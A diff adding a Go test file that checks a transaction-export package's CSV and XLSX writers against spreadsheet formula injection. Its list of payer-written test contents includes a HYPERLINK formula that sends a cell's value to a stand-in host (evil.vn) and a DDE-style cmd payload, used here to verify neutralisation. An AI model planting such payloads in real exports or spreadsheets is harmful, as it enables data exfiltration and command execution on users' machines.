@@ -1,0 +1,164 @@
+package sheet_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"baoco/app"
+	"baoco/app/sheet"
+	"baoco/app/statement"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/xuri/excelize/v2"
+)
+
+var zone = time.FixedZone("", 7*3600)
+
+// contents are what payers can write; none of them may become a formula.
+var contents = []string{
+	"DH10293 thanh toán", `=HYPERLINK("http://evil.vn?"&A1,"x")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1",
+	`"=1+1`, "  =1+1", "\u200b=1", "＝1+1", "− 5", "'=1", `quotes "and", commas; semicolons`, "two\nlines", "\u202Egnp.exe", "_x0041_", "a\x01b", "<c>&amp;</c>", "",
+}
+
+func transactions() (list []app.Transaction) {
+	for i, content := range contents {
+		t := app.Transaction{
+			ID: int64(i + 1), Bank: "ACB", AccountNumber: "0072413870", Number: "FT00" + string(rune('A'+i)), Type: app.In, Amount: 1_549_000 + int64(i),
+			Content: content, Time: time.Date(2026, 11, 21, 10, 59, i, 0, zone), CreatedAt: time.Date(2026, 11, 21, 11, 0, 1, 0, zone),
+		}
+		if i%3 == 1 {
+			t.Type = app.Out
+		}
+		list = append(list, t)
+	}
+	return list
+}
+
+func write(t *testing.T, format sheet.Format, lang app.Lang) []byte {
+	t.Helper()
+	var b bytes.Buffer
+	w, err := sheet.New(format, &b, lang, zone)
+	must(t, err)
+	for _, one := range transactions() {
+		must(t, w.Add(one))
+	}
+	must(t, w.Close())
+	return b.Bytes()
+}
+
+func TestCSV(t *testing.T) {
+	data := write(t, sheet.CSV, app.Vietnamese)
+	text, found := strings.CutPrefix(string(data), "\uFEFF")
+	if !found {
+		t.Error("no byte order mark: Excel would read another encoding")
+	}
+	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+	must(t, err)
+	want := [][]string{
+		{"Mã baoco", "Thời gian", "Ngân hàng", "Số tài khoản", "Tiền vào", "Tiền ra", "Nội dung", "Mã giao dịch", "Ghi nhận lúc"},
+		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1549000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01"},
+		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1549001", `'=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B", "2026-11-21 11:00:01"},
+	}
+	if diff := cmp.Diff(want, rows[:3]); diff != "" {
+		t.Error(diff)
+	}
+	if len(rows) != len(contents)+1 {
+		t.Errorf("%d rows", len(rows))
+	}
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			if strings.HasPrefix(strings.TrimLeft(cell, " \"\u200b"), "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "-") || strings.HasPrefix(cell, "@") || strings.HasPrefix(cell, "\t") {
+				t.Errorf("a spreadsheet computes %q", cell)
+			}
+		}
+	}
+}
+
+// Another implementation of the format opens the file and finds texts, numbers
+// and dates where they belong.
+func TestXLSX(t *testing.T) {
+	f, err := excelize.OpenReader(bytes.NewReader(write(t, sheet.XLSX, app.English)))
+	must(t, err)
+	defer f.Close()
+	names := f.GetSheetList()
+	if len(names) != 1 {
+		t.Fatalf("sheets %q", names)
+	}
+	rows, err := f.GetRows(names[0])
+	must(t, err)
+	want := [][]string{
+		{"baoco id", "Transaction date", "Bank", "Account number", "Money in", "Money out", "Content", "Transaction number", "Recorded at"},
+		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1,549,000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01"},
+		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1,549,001", `=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B", "2026-11-21 11:00:01"},
+	}
+	if diff := cmp.Diff(want, rows[:3]); diff != "" {
+		t.Error(diff)
+	}
+	if len(rows) != len(contents)+1 {
+		t.Errorf("%d rows", len(rows))
+	}
+	for y := range rows {
+		for x := range rows[y] {
+			at, err := excelize.CoordinatesToCellName(x+1, y+1)
+			must(t, err)
+			if formula, err := f.GetCellFormula(names[0], at); err != nil || formula != "" {
+				t.Errorf("%s is a formula: %q, %v", at, formula, err)
+			}
+		}
+	}
+}
+
+// What is written is read back as the same transactions.
+func TestReadBack(t *testing.T) {
+	for _, format := range []sheet.Format{sheet.CSV, sheet.XLSX} {
+		for _, lang := range []app.Lang{app.English, app.Vietnamese} {
+			t.Run(string(format)+" "+string(lang), func(t *testing.T) {
+				path := filepath.Join(t.TempDir(), "export")
+				must(t, os.WriteFile(path, write(t, format, lang), 0o600))
+				r, err := statement.Open(path, statement.Options{Zone: zone})
+				must(t, err)
+				defer r.Close()
+				for _, want := range transactions() {
+					row, err := r.Next()
+					if err != nil {
+						t.Fatalf("row %d: %v", want.ID, err)
+					}
+					if row.Fault != nil {
+						t.Errorf("row %d: %+v", want.ID, row.Fault)
+					}
+					got := app.Transaction{ID: want.ID, Bank: row.Gateway, AccountNumber: row.AccountNumber, Number: row.Number, Type: row.Type, Amount: row.Amount, Content: want.Content, Time: row.Time, CreatedAt: want.CreatedAt}
+					if diff := cmp.Diff(want, got); diff != "" {
+						t.Error(diff)
+					}
+				}
+			})
+		}
+	}
+}
+
+func FuzzGuard(f *testing.F) {
+	for _, content := range contents {
+		f.Add(content)
+	}
+	f.Fuzz(func(t *testing.T, text string) {
+		got := sheet.Guard(text)
+		if got != text && got != "'"+text {
+			t.Fatalf("%q became %q", text, got)
+		}
+		if first := strings.TrimLeft(got, " \t\r\n\"\u00a0"); first != "" && strings.ContainsRune("=+-@", rune(first[0])) {
+			t.Fatalf("a spreadsheet computes %q", got)
+		}
+	})
+}
+
+func must(t *testing.T, err error) {
+	t.Helper()
+	if err != nil {
+		t.Fatal(err)
+	}
+}
